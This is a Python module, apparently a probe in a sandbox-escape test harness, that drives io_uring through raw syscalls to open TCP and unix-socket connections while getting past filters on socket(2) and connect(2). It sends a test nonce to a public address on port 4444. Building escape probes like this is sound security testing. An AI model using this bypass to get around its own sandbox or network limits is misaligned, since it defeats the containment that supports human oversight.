"""Sockets through io_uring, past filters of socket(2) and connect(2): io_uring(7)."""

from __future__ import annotations

import ctypes
import mmap
import os
import socket
import struct

from netns.escapes.programs.calls import call
from netns.escapes.task import Task

_SOCKET, _CONNECT, _SEND = 45, 16, 26  # enum io_uring_op
_ENTRIES = 8


class _Ring:
    """A ring of eight entries, used one operation at a time."""

    def __init__(self) -> None:
        parameters = ctypes.create_string_buffer(120)
        self._fd = call("io_uring_setup", _ENTRIES, parameters)
        words = struct.unpack("30I", parameters.raw)
        # struct io_uring_params: 10 words, then offsets of the two rings, 10 words each
        self._sq, self._cq = words[10:20], words[20:30]
        flags = mmap.MAP_SHARED | getattr(mmap, "MAP_POPULATE", 0)
        size = max(self._sq[6] + words[0] * 4, self._cq[5] + words[1] * 16)
        self._submit = mmap.mmap(self._fd, size, flags, offset=0)
        self._complete = mmap.mmap(self._fd, size, flags, offset=0x8000000)
        self._entries = mmap.mmap(self._fd, words[0] * 64, flags, offset=0x10000000)

    def do(self, operation: int, descriptor: int, address: int, length: int, offset: int) -> int:
        """Run one operation and return its result; raises OSError."""
        entry = struct.pack(
            "=BBHiQQIIQ", operation, 0, 0, descriptor, offset, address, length, 0, 1
        )
        self._entries[0:64] = entry.ljust(64, b"\0")
        tail = struct.unpack_from("I", self._submit, self._sq[1])[0]
        mask = struct.unpack_from("I", self._submit, self._sq[2])[0]
        struct.pack_into("I", self._submit, self._sq[6] + 4 * (tail & mask), 0)
        struct.pack_into("I", self._submit, self._sq[1], tail + 1)
        call("io_uring_enter", self._fd, 1, 1, 1, None, 0)
        head = struct.unpack_from("I", self._complete, self._cq[0])[0]
        mask = struct.unpack_from("I", self._complete, self._cq[2])[0]
        place = self._cq[5] + 16 * (head & mask)
        result: int = struct.unpack_from("=Qi", self._complete, place)[1]
        struct.pack_into("I", self._complete, self._cq[0], head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result


def _sent(ring: _Ring, family: int, where: bytes, payload: bytes) -> str:
    descriptor = ring.do(_SOCKET, family, 0, 0, socket.SOCK_STREAM)
    address = ctypes.create_string_buffer(where, len(where))
    ring.do(_CONNECT, descriptor, ctypes.addressof(address), 0, len(where))
    text = ctypes.create_string_buffer(payload, len(payload))
    ring.do(_SEND, descriptor, ctypes.addressof(text), len(payload), 0)
    os.close(descriptor)
    return "sent"


def tcp(task: Task) -> str:
    """A TCP connection that no socket(2) and no connect(2) made."""
    address = socket.inet_aton(task.world["public4"])
    where = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 4444) + address + bytes(8)
    return _sent(_Ring(), socket.AF_INET, where, task.nonce)


def local(task: Task) -> str:
    """A unix socket by the same way."""
    path = task.world["sockets"]["work"].encode()
    where = struct.pack("=H", socket.AF_UNIX) + path + b"\0"
    return _sent(_Ring(), socket.AF_UNIX, where, task.nonce)


def setup(task: Task) -> str:
    """The ring alone."""
    _Ring()
    return task.gain("the kernel gave a ring")
